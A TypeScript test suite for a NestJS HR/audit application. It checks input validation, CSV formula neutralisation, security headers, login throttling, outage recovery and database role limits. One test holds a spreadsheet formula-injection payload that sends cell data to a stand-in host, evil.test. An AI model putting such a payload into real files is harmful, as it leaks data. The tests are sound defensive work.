import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { INestApplication, LoggerService } from '@nestjs/common';
import { createApp } from '../src/bootstrap';
import { freePort, startEmbeddedPostgres, type EmbeddedDatabase } from '../src/database/embedded-postgres';
import { prepareDatabase } from '../src/database/roles';
import { runMigrations } from '../src/database/data-source';
import { DataSource } from 'typeorm';
import { api, createPlatformAdmin, login, onboardOrganization, PASSWORD, startTestApp, type TestApp, type TestOrg, testConfig, unique, adminDataSource } from './helpers';

describe('HTTP edges', () => {
  let t: TestApp;
  const dist = mkdtempSync(join(tmpdir(), 'aman-dist-'));
  writeFileSync(join(dist, 'index.html'), '<!doctype html><title>Aman SPA</title>');

  beforeAll(async () => {
    t = await startTestApp({ FRONTEND_DIST: dist });
  });
  afterAll(() => t.close());

  it('reports health with database and documents', async () => {
    const res = await api(t.url, 'GET', '/api/health');
    expect(res.status).toBe(200);
    expect(res.body).toEqual({ status: 'ok', database: 'up', documents: expect.stringMatching(/^(up|unavailable)$/) });
  });

  it('serves a valid OpenAPI 3 document and the Swagger UI', async () => {
    const doc = await api(t.url, 'GET', '/api/docs-json');
    expect(doc.status).toBe(200);
    expect(doc.body.openapi).toMatch(/^3\./);
    expect(Object.keys(doc.body.paths)).toEqual(
      expect.arrayContaining(['/api/auth/login', '/api/me', '/api/organizations', '/api/units', '/api/health', '/api/engagements']),
    );
    const ui = await fetch(`${t.url}/api/docs`);
    expect(ui.status).toBe(200);
    expect(await ui.text()).toContain('swagger');
  });

  it('answers bad input with 4xx naming the problem, never 500', async () => {
    const malformed = await api(t.url, 'POST', '/api/auth/login', { raw: '{"email": ', headers: { 'content-type': 'application/json' } });
    expect(malformed.status).toBe(400);
    expect(malformed.body.message).toMatch(/JSON/);
    const wrongTypes = await api(t.url, 'POST', '/api/auth/login', { body: { email: 42, password: ['x'] } });
    expect(wrongTypes.status).toBe(400);
    expect(wrongTypes.body.fields.map((f: { field: string }) => f.field).sort()).toEqual(['email', 'password']);
    const missing = await api(t.url, 'POST', '/api/auth/login', { body: {} });
    expect(missing.body.message).toMatch(/email/);
    expect(missing.body.message).toMatch(/password/);
    const unknown = await api(t.url, 'POST', '/api/auth/login', { body: { email: 'a@b.id', password: 'x', admin: true } });
    expect(unknown.status).toBe(400);
    expect(unknown.body.message).toMatch(/properti admin tidak dikenal/);
    const arrayBody = await api(t.url, 'POST', '/api/auth/login', { body: [1, 2] });
    expect(arrayBody.status).toBe(400);
    const badPage = await api(t.url, 'GET', '/api/users?page=-1&pageSize=abc', { token: 'x' });
    expect(badPage.status).toBe(401);
  });

  it('answers 413 for a JSON body over the limit but accepts a 100,000-row CSV-sized text body', async () => {
    const huge = await api(t.url, 'POST', '/api/auth/login', { raw: JSON.stringify({ email: 'x'.repeat(2_000_000) }), headers: { 'content-type': 'application/json' } });
    expect(huge.status).toBe(413);
    expect(huge.body.statusCode).toBe(413);
    const csv = 'email,name\n' + 'someone@example.org,Some One Name With Room,EMP-000001,UNIT-01,false,female,permanent,2020-01-01,id\n'.repeat(100_000);
    expect(csv.length).toBeGreaterThan(9_000_000);
    const res = await api(t.url, 'POST', '/api/auth/password-reset', { raw: csv, headers: { 'content-type': 'text/csv' } });
    expect(res.status).not.toBe(413);
    expect(res.status).toBeLessThan(500);
  });

  it('answers unknown API routes with JSON 404 and serves the SPA for app routes', async () => {
    const missing = await api(t.url, 'GET', '/api/nope');
    expect(missing.status).toBe(404);
    expect(missing.body.statusCode).toBe(404);
    const page = await fetch(`${t.url}/hr/people`);
    expect(page.status).toBe(200);
    expect(await page.text()).toContain('Aman SPA');
  });

  it('sends a strict CSP and no framework banner', async () => {
    const res = await fetch(`${t.url}/api/health`);
    const csp = res.headers.get('content-security-policy') ?? '';
    expect(csp).toContain("script-src 'self'");
    expect(csp).not.toMatch(/script-src[^;]*unsafe-inline/);
    expect(csp).toContain("frame-ancestors 'none'");
    expect(res.headers.get('x-powered-by')).toBeNull();
  });

  describe('client input that PostgreSQL or the parser would choke on', () => {
    let org: TestOrg;
    beforeAll(async () => {
      const admin = await createPlatformAdmin(t.dataSource);
      org = await onboardOrganization(t.url, await login(t.url, admin.email, PASSWORD));
    });
    const fieldsOf = (body: { fields?: { field: string }[] }) => (body.fields ?? []).map((f) => f.field);

    it('answers 400 naming the field for a NUL byte anywhere in a JSON body', async () => {
      const top = await api(t.url, 'POST', '/api/users', { token: org.hrToken, body: { name: 'Nul\u0000Person', email: 'nul@org.test' } });
      expect(top.status).toBe(400);
      expect(fieldsOf(top.body)).toEqual(['name']);
      const nested = await api(t.url, 'POST', '/api/organizations/x', { token: org.hrToken, body: { a: [{ b: 'ok' }, { c: 'x\u0000' }] } });
      expect(nested.status).toBe(400);
      expect(fieldsOf(nested.body)).toEqual(['a.1.c']);
      const key = await api(t.url, 'POST', '/api/users', { token: org.hrToken, body: { ['na\u0000me']: 'x' } });
      expect(key.status).toBe(400);
    });

    it('answers 400 naming the parameter for a NUL byte in the query or the path', async () => {
      const query = await api(t.url, 'GET', '/api/users?q=a%00b', { token: org.hrToken });
      expect(query.status).toBe(400);
      expect(fieldsOf(query.body)).toEqual(['q']);
      const path = await api(t.url, 'GET', '/api/modules/a%00b', { token: org.hrToken });
      expect(path.status).toBe(400);
      expect(fieldsOf(path.body)).toEqual(['path']);
    });

    it('refuses a CSV import whose body holds a NUL byte', async () => {
      const csv = 'email,name\nnul@org.test,Nul\u0000Person\n';
      const res = await api(t.url, 'POST', '/api/users/import?dryRun=true', { token: org.hrToken, raw: csv, headers: { 'content-type': 'text/csv' } });
      expect(res.status).toBe(400);
      expect(fieldsOf(res.body)).toEqual(['file']);
    });

    it('answers 400 for JSON nested 2,000 deep, naming where it got too deep', async () => {
      const deep = '{"name":' + '{"a":'.repeat(2000) + '1' + '}'.repeat(2000) + '}';
      const res = await api(t.url, 'POST', '/api/users', { token: org.hrToken, raw: deep, headers: { 'content-type': 'application/json' } });
      expect(res.status).toBe(400);
      expect(fieldsOf(res.body)[0]).toMatch(/^name\.a\.a/);
      const array = await api(t.url, 'POST', '/api/auth/login', { raw: '['.repeat(2000) + ']'.repeat(2000), headers: { 'content-type': 'application/json' } });
      expect(array.status).toBe(400);
    });

    it('answers 400 naming page for absurd pagination', async () => {
      for (const page of ['1e300', '9007199254740993', '99999999999999999999']) {
        const res = await api(t.url, 'GET', `/api/users?page=${page}`, { token: org.hrToken });
        expect(res.status).toBe(400);
        expect(fieldsOf(res.body)).toEqual(['page']);
      }
      const ok = await api(t.url, 'GET', '/api/users?page=1000000', { token: org.hrToken });
      expect(ok.status).toBe(200);
      expect(ok.body.items).toEqual([]);
    });

    it('neutralises spreadsheet formulas in every CSV: audit report numbers and completion exports', async () => {
      const evil = '=HYPERLINK("http://evil.test/?"&A1,"click")';
      const numbers = {
        summary: { all: { assigned: 12, completed: 6, overdue: 1, suppressed: false } },
        breakdowns: {
          unit: [
            { group: evil, assigned: 6, completed: 3, overdue: 0, completionRate: 0.5, suppressed: false },
            { group: '-2+3', assigned: 6, completed: 3, overdue: 1, completionRate: 0.5, suppressed: false },
            { group: '@SUM(A1:A9)', assigned: null, completed: null, overdue: null, completionRate: null, suppressed: true },
          ],
        },
        certificates: { issued: 3 },
      };
      const [report] = await t.dataSource.query(
        `INSERT INTO audit_reports (organization_id, period_start, period_end, status, numbers) VALUES ($1, '2026-01-01', '2026-06-30', 'done', $2) RETURNING id`,
        [org.id, JSON.stringify(numbers)],
      );
      const res = await fetch(`${t.url}/api/audit-reports/${report.id}/numbers.csv`, { headers: { authorization: `Bearer ${org.hrToken}` } });
      expect(res.status).toBe(200);
      // Prefixes: columns may be added after these.
      const lines = (await res.text()).split(/\r?\n/);
      const line = (prefix: string) => lines.find((l) => l.startsWith(prefix));
      expect(line(`unit,"'=HYPERLINK(""http://evil.test/?""&A1,""click"")",6,3,0,0.5000,`)).toBeDefined();
      expect(line(`unit,'-2+3,6,3,1,0.5000,`)).toBeDefined();
      expect(line(`unit,'@SUM(A1:A9),,,,,`)).toMatch(/,true$/);
      expect(line('summary,all,12,6,1,0.5000,')).toBeDefined();
      expect(lines.filter((l) => /^unit,[=+\-@"]?[=+\-@]/.test(l))).toEqual([]);

      for (const name of [evil, '+62 Cabang']) {
        const unit = await api(t.url, 'POST', '/api/units', { token: org.hrToken, body: { code: unique('U'), name } });
        expect(unit.status).toBe(201);
      }
      const csv = await fetch(`${t.url}/api/reports/completion.csv?groupBy=unit`, { headers: { authorization: `Bearer ${org.hrToken}` } });
      expect(csv.status).toBe(200);
      const text = await csv.text();
      expect(text).toContain(`"'=HYPERLINK(""http://evil.test/?""&A1,""click"")"`);
      expect(text).toContain(`'+62 Cabang`);
      expect(text).not.toMatch(/(^|[\n,])[=+@-]/);
    });

    it('refuses bidi overrides and zero-width characters in names, naming the field', async () => {
      const admin = await login(t.url, (await createPlatformAdmin(t.dataSource)).email, PASSWORD);
      const spoofed = ['Budi \u202Eodnaw', 'Siti\u200BRahma', 'Ayu\u2066 Lestari', 'Dewi\u200D', 'A\uFEFFgus', 'X\u2060Y'];
      for (const name of spoofed) {
        const person = await api(t.url, 'POST', '/api/users', { token: org.hrToken, body: { name, unitCode: 'ANY' } });
        expect([name, person.status, fieldsOf(person.body)]).toEqual([name, 400, ['name']]);
      }
      const unitCode = unique('U');
      expect((await api(t.url, 'POST', '/api/units', { token: org.hrToken, body: { code: unitCode, name: 'Bagian Umum' } })).status).toBe(201);
      const created = await api(t.url, 'POST', '/api/users', { token: org.hrToken, body: { name: 'Budi Santoso', unitCode } });
      expect(created.status).toBe(201);
      const update = await api(t.url, 'PATCH', `/api/users/${created.body.id}`, { token: org.hrToken, body: { name: 'Budi \u202ESantoso' } });
      expect(update.status).toBe(400);
      expect(fieldsOf(update.body)).toEqual(['name']);
      expect(update.body.message).toContain('U+202E');

      const partner = await api(t.url, 'POST', '/api/partners', { token: admin, body: { name: 'Mitra\u202E Setara' } });
      expect(partner.status).toBe(400);
      expect(fieldsOf(partner.body)).toEqual(['name']);
      const onboarding = await api(t.url, 'POST', '/api/organizations', {
        token: admin,
        body: { name: 'Org \u2067X', code: unique('org'), timeZone: 'Asia/Jakarta', hrAdmin: { email: 'hr-bidi@org.test', name: 'H\u200BR' } },
      });
      expect(onboarding.status).toBe(400);
      expect(fieldsOf(onboarding.body).sort()).toEqual(['hrAdmin.name', 'name']);

      const header = 'email,name,employeeNumber,unitCode,isLeader,gender,employmentType,hireDate';
      const csv = `${header}\nbidi@org.test,Rina \u202EWati,B-1,NONE,false,female,permanent,2020-01-01\n`;
      const imported = await api(t.url, 'POST', '/api/users/import?dryRun=true', { token: org.hrToken, raw: csv, headers: { 'content-type': 'text/csv' } });
      expect(imported.status).toBe(200);
      expect(imported.body.errors).toContainEqual({ line: 2, field: 'name', message: expect.stringContaining('U+202E') });
      // Ordinary names in other scripts and with accents stay welcome.
      expect((await api(t.url, 'POST', '/api/users', { token: org.hrToken, body: { name: "Ni Luh Putu Ayu Kadek Dwi Ça'ñé", unitCode } })).status).toBe(201);
    });

    it('answers 400 naming afterSeq past bigint', async () => {
      const res = await api(t.url, 'GET', `/api/organizations/${org.id}/audit-log/entries?afterSeq=99999999999999999999`, { token: org.hrToken });
      expect(res.status).toBe(400);
      expect(fieldsOf(res.body)).toEqual(['afterSeq']);
      const ok = await api(t.url, 'GET', `/api/organizations/${org.id}/audit-log/entries?afterSeq=9007199254740991`, { token: org.hrToken });
      expect(ok.status).toBe(200);
    });
  });
});

describe('PostgreSQL unreachable', () => {
  const dir = mkdtempSync(join(tmpdir(), 'aman-outage-'));
  const lines: string[] = [];
  const capture = (level: string) => (message: unknown, ...rest: unknown[]) => {
    lines.push(`${level} ${[message, ...rest].map((part) => (part instanceof Error ? part.stack : String(part))).join(' ')}`);
  };
  const logger: LoggerService = { log: capture('log'), error: capture('error'), warn: capture('warn'), debug: () => undefined, verbose: () => undefined };
  let db: EmbeddedDatabase;
  let port: number;
  let app: INestApplication;
  let url: string;
  const start = async () => (db = await startEmbeddedPostgres(dir, { database: 'aman_outage', port }));

  beforeAll(async () => {
    port = await freePort();
    await start();
    await prepareDatabase({ migrationUrl: db.ownerUrl, runtimeUrl: db.url });
    app = await createApp(testConfig({ DATABASE_URL: db.url }), logger);
    await app.listen(0, '127.0.0.1');
    url = `http://127.0.0.1:${(app.getHttpServer().address() as { port: number }).port}`;
  }, 120_000);
  afterAll(async () => {
    await app?.close();
    await db?.stop();
  });

  it('answers 503 with Retry-After, logs one line for the outage and recovers by itself', async () => {
    const wrong = { body: { email: 'nobody@outage.test', password: 'wrong-password' } };
    expect((await api(url, 'POST', '/api/auth/login', wrong)).status).toBe(401);
    await db.stop();
    lines.length = 0;

    const answers = await Promise.all(
      Array.from({ length: 12 }, (_, i) =>
        i % 2 ? api(url, 'POST', '/api/auth/login', wrong) : api(url, 'GET', '/api/users', { token: 'some-session-token' }),
      ),
    );
    expect(answers.map((a) => a.status)).toEqual(Array(12).fill(503));
    for (const a of answers) expect(Number(a.headers.get('retry-after'))).toBeGreaterThan(0);
    const health = await api(url, 'GET', '/api/health');
    expect(health.status).toBe(503);
    expect(health.headers.get('retry-after')).not.toBeNull();
    const more = await api(url, 'POST', '/api/auth/login', wrong);
    expect(more.status).toBe(503);

    const outageLines = lines.filter((l) => /unreachable/i.test(l));
    expect(outageLines).toHaveLength(1);
    expect(lines.filter((l) => /^error/.test(l) && /\n\s+at /.test(l))).toEqual([]);

    await start();
    let status = 503;
    for (let i = 0; i < 60 && status === 503; i++) {
      await new Promise((r) => setTimeout(r, 250));
      status = (await api(url, 'POST', '/api/auth/login', wrong)).status;
    }
    expect(status).toBe(401);
    for (let i = 0; i < 40 && !lines.some((l) => /reachable again/.test(l)); i++) await new Promise((r) => setTimeout(r, 250));
    expect(lines.filter((l) => /reachable again/.test(l))).toHaveLength(1);
  }, 90_000);
});

describe('login throttle under concurrency', () => {
  let a: TestApp;
  let b: TestApp;
  beforeAll(async () => {
    // Behind a proxy each test can be its own address, so the suite's shared 127.0.0.1 counter is left alone.
    [a, b] = await Promise.all([startTestApp({ TRUST_PROXY: 'true' }), startTestApp({ TRUST_PROXY: 'true' })]);
  });
  afterAll(async () => {
    await a?.close();
    await b?.close();
  });
  const address = () => `10.${Math.floor(Math.random() * 250)}.${Math.floor(Math.random() * 250)}.${Math.floor(Math.random() * 250) + 1}`;

  it('checks at most 5 of 40 parallel wrong passwords for one account from one address across two instances', async () => {
    const { email } = await createPlatformAdmin(a.dataSource);
    const from = address();
    const answers = await Promise.all(
      Array.from({ length: 40 }, (_, i) =>
        api(i % 2 ? a.url : b.url, 'POST', '/api/auth/login', { body: { email, password: `wrong-${i}` }, headers: { 'x-forwarded-for': from } }),
      ),
    );
    const statuses = answers.map((r) => r.status);
    expect(statuses.filter((s) => s === 401)).toHaveLength(5);
    expect(statuses.filter((s) => s === 429)).toHaveLength(35);
    for (const r of answers.filter((x) => x.status === 429)) expect(r.body.retryAfterSeconds).toBeGreaterThan(0);

    // The right password from that address waits too; from another address it works.
    expect((await api(a.url, 'POST', '/api/auth/login', { body: { email, password: PASSWORD }, headers: { 'x-forwarded-for': from } })).status).toBe(429);
    expect((await api(b.url, 'POST', '/api/auth/login', { body: { email, password: PASSWORD }, headers: { 'x-forwarded-for': address() } })).status).toBe(200);
    // Refused attempts gave their reservation back: the address counts the 5 checked failures only.
    const [row] = await a.dataSource.query(`SELECT failures FROM login_failures WHERE key = $1`, [`address:${from}`]);
    expect(row.failures).toBe(5);
  });

  it('gives the reservation back on success', async () => {
    const { email } = await createPlatformAdmin(a.dataSource);
    const from = address();
    const headers = { 'x-forwarded-for': from };
    for (let i = 0; i < 4; i++) expect((await api(a.url, 'POST', '/api/auth/login', { body: { email, password: 'wrong' }, headers })).status).toBe(401);
    expect((await api(b.url, 'POST', '/api/auth/login', { body: { email, password: PASSWORD }, headers })).status).toBe(200);
    // The success cleared the account's failures, so five sign-ins at once all fit in its allowance.
    const ok = await Promise.all(Array.from({ length: 5 }, (_, i) => api(i % 2 ? a.url : b.url, 'POST', '/api/auth/login', { body: { email, password: PASSWORD }, headers })));
    expect(ok.map((r) => r.status)).toEqual(Array(5).fill(200));
    const rows = await a.dataSource.query(`SELECT key, failures FROM login_failures WHERE key LIKE $1 ORDER BY key`, [`%${from}`]);
    expect(rows).toEqual([{ key: `address:${from}`, failures: 4 }]);
  });
});

describe('security and cache headers', () => {
  let plain: TestApp;
  let https: TestApp;
  let proxied: TestApp;
  beforeAll(async () => {
    [plain, https, proxied] = await Promise.all([
      startTestApp({ PUBLIC_URL: 'http://192.168.1.10:3000' }),
      startTestApp({ PUBLIC_URL: 'https://aman.example.org' }),
      startTestApp({ PUBLIC_URL: 'http://192.168.1.10:3000', TRUST_PROXY: 'true' }),
    ]);
  });
  afterAll(async () => {
    await Promise.all([plain?.close(), https?.close(), proxied?.close()]);
  });
  const headersOf = async (base: string, path: string, init: RequestInit = {}) => (await fetch(`${base}${path}`, init)).headers;

  it('sends Cache-Control: no-store on every API answer, errors and sign-in included', async () => {
    for (const [method, path, body] of [
      ['GET', '/api/health', undefined],
      ['GET', '/api/me', undefined],
      ['POST', '/api/auth/login', JSON.stringify({ email: 'x@y.test', password: 'nope' })],
      ['GET', '/api/nope', undefined],
      ['GET', '/api/keys/audit-reports', undefined],
    ] as const) {
      const h = await headersOf(plain.url, path, { method, body, headers: body ? { 'content-type': 'application/json' } : {} });
      expect([path, h.get('cache-control')]).toEqual([path, expect.stringContaining('no-store')]);
    }
  });

  it('sends no HSTS and no upgrade-insecure-requests over plain http', async () => {
    const h = await headersOf(plain.url, '/api/health');
    expect(h.get('strict-transport-security')).toBeNull();
    expect(h.get('content-security-policy')).not.toContain('upgrade-insecure-requests');
    expect(h.get('content-security-policy')).toContain("frame-ancestors 'none'");
    // A forwarded https from an untrusted client changes nothing.
    const forged = await headersOf(plain.url, '/api/health', { headers: { 'x-forwarded-proto': 'https' } });
    expect(forged.get('strict-transport-security')).toBeNull();
  });

  it('sends HSTS and upgrade-insecure-requests when served over https', async () => {
    const h = await headersOf(https.url, '/api/health');
    expect(h.get('strict-transport-security')).toMatch(/max-age=\d+/);
    expect(h.get('content-security-policy')).toContain('upgrade-insecure-requests');
    const viaProxy = await headersOf(proxied.url, '/api/health', { headers: { 'x-forwarded-proto': 'https' } });
    expect(viaProxy.get('strict-transport-security')).toMatch(/max-age=\d+/);
    expect(viaProxy.get('content-security-policy')).toContain('upgrade-insecure-requests');
    const direct = await headersOf(proxied.url, '/api/health');
    expect(direct.get('strict-transport-security')).toBeNull();
    expect(direct.get('content-security-policy')).not.toContain('upgrade-insecure-requests');
  });
});

describe('database roles', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await startTestApp();
  });
  afterAll(() => t?.close());

  it('runs the app as a role that owns nothing and cannot lift the audit trail protection', async () => {
    const [me] = await t.dataSource.query(
      `SELECT current_user AS role, rolsuper, rolcreaterole, rolcreatedb FROM pg_roles WHERE rolname = current_user`,
    );
    expect(me).toEqual({ role: 'aman_app', rolsuper: false, rolcreaterole: false, rolcreatedb: false });
    const [{ owned }] = await t.dataSource.query(
      `SELECT count(*)::int AS owned FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace
        WHERE n.nspname IN ('public', 'pgboss') AND pg_has_role(current_user, c.relowner, 'USAGE')`,
    );
    expect(owned).toBe(0);

    // An entry made through the app, then sequenced: the chain row the runtime role must not touch.
    const { email } = await createPlatformAdmin(t.dataSource);
    await login(t.url, email, PASSWORD);
    const [entry] = await t.dataSource.query(`SELECT id FROM audit_entries ORDER BY id DESC LIMIT 1`);
    await t.dataSource.query(`INSERT INTO audit_entries (action) VALUES ('test.roles')`);

    for (const table of ['audit_entries', 'audit_chain']) {
      await expect(t.dataSource.query(`ALTER TABLE ${table} DISABLE TRIGGER ALL`)).rejects.toThrow(/must be owner|permission denied/);
      await expect(t.dataSource.query(`ALTER TABLE ${table} DISABLE TRIGGER USER`)).rejects.toThrow(/must be owner|permission denied/);
      await expect(t.dataSource.query(`TRUNCATE ${table} CASCADE`)).rejects.toThrow(/permission denied/);
      await expect(t.dataSource.query(`DELETE FROM ${table}`)).rejects.toThrow(/permission denied/);
    }
    await expect(t.dataSource.query(`UPDATE audit_chain SET hash = repeat('0', 64) WHERE entry_id = $1`, [entry.id])).rejects.toThrow(/permission denied/);
    await expect(t.dataSource.query(`UPDATE audit_entries SET details = '{}' WHERE id = $1`, [entry.id])).rejects.toThrow(/permission denied/);
    await expect(t.dataSource.query(`SET session_replication_role = replica`)).rejects.toThrow(/permission denied/);
    await expect(t.dataSource.query(`DROP TRIGGER audit_entries_append_only ON audit_entries`)).rejects.toThrow(/must be owner|permission denied/);
    await expect(t.dataSource.query(`CREATE OR REPLACE FUNCTION audit_refuse_change() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NULL; END $$`)).rejects.toThrow(
      /must be owner|permission denied/,
    );

    // The superuser still can (what the anchors check is for); the setup hands tests that role apart.
    const admin = await adminDataSource();
    try {
      const [su] = await admin.query(`SELECT rolsuper FROM pg_roles WHERE rolname = current_user`);
      expect(su.rolsuper).toBe(true);
    } finally {
      await admin.destroy();
    }
  });

  it('lets the runtime role use the job queue made by the owner (a new queue is a partition table)', async () => {
    const { JobsService } = await import('../src/jobs/jobs.service');
    const jobs = t.app.get(JobsService);
    const name = unique('roles-test-queue');
    const id = await jobs.send(name, { ok: true });
    expect(id).toEqual(expect.any(String));
    const [partition] = await t.dataSource.query(`SELECT partition_name FROM pgboss.queue WHERE name = $1`, [name]);
    const [{ owner }] = await t.dataSource.query(
      `SELECT pg_get_userbyid(c.relowner) AS owner FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace WHERE n.nspname = 'pgboss' AND c.relname = $1`,
      [partition.partition_name],
    );
    expect(owner).toBe('aman_owner');
  });
});

describe('database roles on an install from before them', () => {
  it('hands the superuser-made schema to the owner at start, and the app role then owns nothing', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'aman-legacy-'));
    let db = await startEmbeddedPostgres(dir, { database: 'aman_legacy' });
    try {
      // What earlier versions did: everything made by the superuser, the app connected as it.
      await runMigrations(db.superuserUrl);
      const su = await new DataSource({ type: 'postgres', url: db.superuserUrl }).initialize();
      await su.query(`ALTER TABLE audit_entries OWNER TO CURRENT_USER`);
      await su.destroy();
      await db.stop();

      db = await startEmbeddedPostgres(dir, { database: 'aman_legacy' });
      const { warning } = await prepareDatabase({ migrationUrl: db.ownerUrl, runtimeUrl: db.url });
      expect(warning).toBeNull();
      const app = await new DataSource({ type: 'postgres', url: db.url }).initialize();
      try {
        const [{ owners }] = await app.query(
          `SELECT array_agg(DISTINCT pg_get_userbyid(c.relowner)::text) AS owners FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace
            WHERE n.nspname IN ('public', 'pgboss') AND c.relkind IN ('r', 'p', 'S', 'v')`,
        );
        expect(owners).toEqual(['aman_owner']);
        await expect(app.query(`ALTER TABLE audit_entries DISABLE TRIGGER ALL`)).rejects.toThrow(/must be owner/);
        await app.query(`INSERT INTO audit_entries (action) VALUES ('test.legacy')`);
        await expect(app.query(`SELECT count(*)::int AS n FROM audit_pending`)).resolves.toEqual([{ n: 1 }]);
      } finally {
        await app.destroy();
      }
      // The same runtime role as superuser-and-owner is warned about.
      expect((await prepareDatabase({ migrationUrl: db.superuserUrl, runtimeUrl: db.superuserUrl })).warning).toMatch(/superuser/);
    } finally {
      await db.stop();
    }
  }, 120_000);
});

